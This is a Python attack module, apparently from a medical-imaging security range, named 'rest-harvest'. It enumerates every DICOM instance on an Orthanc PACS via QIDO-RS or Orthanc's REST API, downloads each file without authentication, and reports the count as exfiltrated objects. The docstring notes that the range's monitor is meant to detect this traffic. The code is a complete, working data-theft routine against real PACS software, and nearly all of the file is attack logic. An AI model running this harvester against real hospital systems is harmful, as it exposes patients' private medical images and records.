"""DICOMweb/REST harvesting without authentication: list and download from the PACS's web API (T1213, T1530).

With Orthanc's DICOMweb plugin: QIDO-RS lists every instance (PS3.18 §10.6), WADO-RS downloads each one
(§10.4); without it, Orthanc's own REST API. No layer of the range fronts the PACS's web port (nothing stops
it); the monitor sees it in the cleartext HTTP (web-harvest: the unconstrained QIDO-RS listing, the burst of
downloads).
"""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome

#: WADO-RS instance retrieval as a DICOM file (PS3.18 §8.7.3.5)
WADO_ACCEPT = 'multipart/related; type="application/dicom"'
UID_TAGS = ("0020000D", "0020000E", "00080018")  # study, series, SOP instance


def _dicomweb(ctx: Context) -> int:
    got = 0
    for inst in ctx.rest_json("/dicom-web/instances") or []:
        try:
            study, series, sop = (str(inst[t]["Value"][0]) for t in UID_TAGS)
        except (KeyError, IndexError, TypeError):
            continue
        code, body = ctx.rest("GET", f"/dicom-web/studies/{study}/series/{series}/instances/{sop}",
                              headers={"Accept": WADO_ACCEPT})
        got += code == 200 and b"DICM" in body
    return got


def _rest(ctx: Context) -> int:
    got = 0
    for iid in ctx.rest_json("/instances") or []:
        code, body = ctx.rest("GET", f"/instances/{iid}/file")
        got += code == 200 and len(body) > 132
    return got


def run(ctx: Context) -> Outcome:
    via = "QIDO-RS + WADO-RS" if ctx.dicomweb else "the REST API"
    got = _dicomweb(ctx) if ctx.dicomweb else _rest(ctx)
    return Outcome(success=got > 0, impact={"objects_exfiltrated": got},
                   note=f"{got} objects downloaded over {via} without credentials")


ATTACK = Attack(
    name="rest-harvest", title="REST/DICOMweb harvesting without auth", attack_ids=("T1213", "T1530"),
    precondition="network access to the PACS's web port", objective="objects downloaded over HTTP",
    layers=("monitor",), run=run)
